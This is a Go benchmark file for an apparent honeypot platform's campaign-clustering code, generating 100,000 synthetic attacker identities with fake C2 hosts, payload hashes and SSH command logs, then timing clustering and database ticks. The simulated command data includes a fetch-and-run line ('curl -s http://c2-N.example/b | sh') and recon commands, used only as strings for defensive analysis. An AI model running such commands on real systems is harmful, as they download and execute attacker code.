package campaign

import (
	"context"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"path/filepath"
	"testing"
	"time"

	"github.com/decnet/decnet/internal/cluster/ukc"
	"github.com/decnet/decnet/internal/store/sqlstore"
)

// benchIdentity is one generated identity of the benchmark population.
type benchIdentity struct {
	id       string
	ip       string
	payloads []string
	c2       []string
	asn      int64
	kd       string
	events   []benchEvent
}

type benchEvent struct {
	at      time.Time
	decky   string
	command string
}

// benchPopulation draws n identities shaped like a busy year: campaigns of
// one to six identities that share a C2 host or hand deckies over, on a
// fleet of 500 deckies, plus single-identity noise with private payloads.
// A third carry a keystroke centroid.
func benchPopulation(n int) []benchIdentity {
	rng := rand.New(rand.NewPCG(42, 42))
	start := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	out := make([]benchIdentity, 0, n)
	camp := 0
	for len(out) < n {
		camp++
		size := 1 + rng.IntN(6)
		c2 := fmt.Sprintf("c2-%d.example", camp)
		day := start.Add(time.Duration(rng.IntN(365*24)) * time.Hour)
		decky := fmt.Sprintf("decky-%03d", rng.IntN(500))
		for m := 0; m < size && len(out) < n; m++ {
			i := len(out)
			b := benchIdentity{
				id:  fmt.Sprintf("id-%07d", i),
				ip:  fmt.Sprintf("10.%d.%d.%d", i>>16&255, i>>8&255, i&255),
				asn: int64(1000 + rng.IntN(5000)),
			}
			b.payloads = []string{fmt.Sprintf("%064x", rng.Uint64())}
			if size > 1 && m%2 == 0 {
				b.c2 = []string{c2}
			}
			if rng.IntN(3) == 0 {
				b.kd = fmt.Sprintf("%016x", rng.Uint64())
			}
			at := day.Add(time.Duration(m) * 2 * time.Hour)
			cmds := []string{"crontab -l", "curl -s http://" + c2 + "/b | sh"}
			if m%2 == 1 {
				cmds = []string{"whoami", "uname -a", "ssh root@10.0.0.5"}
			}
			for k, cmd := range cmds {
				b.events = append(b.events, benchEvent{at: at.Add(time.Duration(k) * time.Second), decky: decky, command: cmd})
			}
			out = append(out, b)
		}
	}
	return out
}

func (b benchIdentity) features() Features {
	f := Features{ID: b.id, ASNs: []int64{b.asn}, PayloadHashes: b.payloads, C2Endpoints: b.c2}
	for _, e := range b.events {
		p, _ := ClassifyCommand(e.command)
		f.Observe(e.decky, p, e.at)
		f.Windows = append(f.Windows, Window{e.at, e.at.Add(time.Second)})
	}
	return f
}

// BenchmarkClusterFromScratch clusters 100 000 identities from nothing.
func BenchmarkClusterFromScratch(b *testing.B) {
	pop := benchPopulation(100_000)
	fs := make([]Features, len(pop))
	for i, p := range pop {
		fs[i] = p.features()
	}
	b.ResetTimer()
	for b.Loop() {
		Cluster(fs)
	}
}

// BenchmarkIndexIncremental changes one identity of 100 000 and brings the
// partition up to date.
func BenchmarkIndexIncremental(b *testing.B) {
	pop := benchPopulation(100_000)
	x := NewIndex()
	for _, p := range pop {
		x.Upsert(p.features())
	}
	x.Recompute()
	rng := rand.New(rand.NewPCG(1, 1))
	b.ResetTimer()
	for i := 0; b.Loop(); i++ {
		f := pop[rng.IntN(len(pop))].features()
		f.Observe("decky-999", ukc.Discovery, time.Date(2026, 6, 1, 0, 0, i, 0, time.UTC))
		x.Upsert(f)
		x.Recompute()
	}
}

// seedStore writes the population as the ingester and the identity
// clusterer would have: one attackers row and one identity per member, and
// the command events in logs.
func seedStore(b *testing.B, pop []benchIdentity) *sqlstore.Store {
	b.Helper()
	ctx := context.Background()
	st, err := sqlstore.Open(ctx, filepath.Join(b.TempDir(), "decnet.db"), sqlstore.Options{})
	if err != nil {
		b.Fatal(err)
	}
	b.Cleanup(func() { st.Close() })
	tx, err := st.DB().BeginTx(ctx, nil)
	if err != nil {
		b.Fatal(err)
	}
	defer tx.Rollback()
	idStmt, _ := tx.Prepare(`INSERT INTO attacker_identities (uuid, first_seen_at, last_seen_at, created_at, updated_at,
		observation_count, payload_simhashes, c2_endpoints, asns, kd_digraph_simhash) VALUES (?, ?, ?, ?, ?, 1, ?, ?, ?, ?)`)
	attStmt, _ := tx.Prepare(`INSERT INTO attackers (uuid, ip, first_seen, last_seen, identity_id, updated_at) VALUES (?, ?, ?, ?, ?, ?)`)
	logStmt, _ := tx.Prepare(`INSERT INTO logs (event_id, time, decky, service, kind, src_ip, session, fields, created_at)
		VALUES (?, ?, ?, 'ssh', 'command', ?, ?, ?, ?)`)
	// Identities were updated over the past days, as on a running system,
	// not all in the same instant.
	past := time.Now().Add(-time.Duration(len(pop)) * 4 * time.Second)
	for i, p := range pop {
		now := sqlstore.FormatTime(past.Add(time.Duration(i) * 4 * time.Second))
		first, last := sqlstore.FormatTime(p.events[0].at), sqlstore.FormatTime(p.events[len(p.events)-1].at)
		payloads, _ := json.Marshal(p.payloads)
		var c2 any
		if len(p.c2) > 0 {
			raw, _ := json.Marshal(p.c2)
			c2 = string(raw)
		}
		var kd any
		if p.kd != "" {
			var v [8]byte
			fmt.Sscanf(p.kd, "%x", &v)
			kd = v[:]
		}
		if _, err := idStmt.Exec(p.id, first, last, now, now, string(payloads), c2, fmt.Sprintf("[%d]", p.asn), kd); err != nil {
			b.Fatal(err)
		}
		if _, err := attStmt.Exec(fmt.Sprintf("att-%07d", i), p.ip, first, last, p.id, now); err != nil {
			b.Fatal(err)
		}
		for k, e := range p.events {
			fields, _ := json.Marshal(map[string]string{"command": e.command})
			if _, err := logStmt.Exec(fmt.Sprintf("ev-%07d-%d", i, k), sqlstore.FormatTime(e.at), e.decky, p.ip, fmt.Sprintf("s-%d", i), string(fields), now); err != nil {
				b.Fatal(err)
			}
		}
	}
	if err := tx.Commit(); err != nil {
		b.Fatal(err)
	}
	return st
}

// BenchmarkTickFromScratch is the first tick over 100 000 identities in
// SQLite: read everything, cluster, create every campaign and assign every
// identity in one transaction.
func BenchmarkTickFromScratch(b *testing.B) {
	pop := benchPopulation(100_000)
	for b.Loop() {
		b.StopTimer()
		st := seedStore(b, pop)
		c := New(st, Options{})
		b.StartTimer()
		if _, err := c.Tick(context.Background()); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkTickIncremental is a tick over 100 000 clustered identities
// after one new command event from one of them.
func BenchmarkTickIncremental(b *testing.B) {
	pop := benchPopulation(100_000)
	st := seedStore(b, pop)
	c := New(st, Options{FullEvery: -1})
	ctx := context.Background()
	if _, err := c.Tick(ctx); err != nil {
		b.Fatal(err)
	}
	ins, err := st.DB().Prepare(`INSERT INTO logs (event_id, time, decky, service, kind, src_ip, session, fields, created_at)
		VALUES (?, ?, 'decky-777', 'ssh', 'command', ?, 'bench', '{"command":"whoami"}', ?)`)
	if err != nil {
		b.Fatal(err)
	}
	defer ins.Close()
	rng := rand.New(rand.NewPCG(2, 2))
	b.ResetTimer()
	for i := 0; b.Loop(); i++ {
		b.StopTimer()
		p := pop[rng.IntN(len(pop))]
		at := sqlstore.FormatTime(time.Date(2027, 1, 1, 0, 0, i, 0, time.UTC))
		if _, err := ins.Exec(fmt.Sprintf("inc-%d", i), at, p.ip, at); err != nil {
			b.Fatal(err)
		}
		b.StartTimer()
		if _, err := c.Tick(ctx); err != nil {
			b.Fatal(err)
		}
	}
}
